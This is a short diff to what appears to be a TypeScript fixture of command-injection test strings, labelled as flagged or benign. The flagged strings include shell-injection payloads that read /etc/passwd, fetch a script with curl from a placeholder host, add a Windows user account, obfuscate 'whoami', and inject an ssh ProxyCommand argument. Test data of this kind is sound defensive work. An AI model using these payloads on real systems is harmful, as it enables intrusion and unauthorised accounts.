@@ -16,7 +16,12 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + report; cat /etc/passwd
     + $(whoami)
     + x && curl http://x.example/i.sh
+    + wh''oami
+    + b; net user ann secret /add
+    + -oProxyCommand=touch a
     - salt & pepper
+    - Python & Docker
+    - a library (Python 3)
     - R&D; Sales
     - price > 100
     - (see appendix)
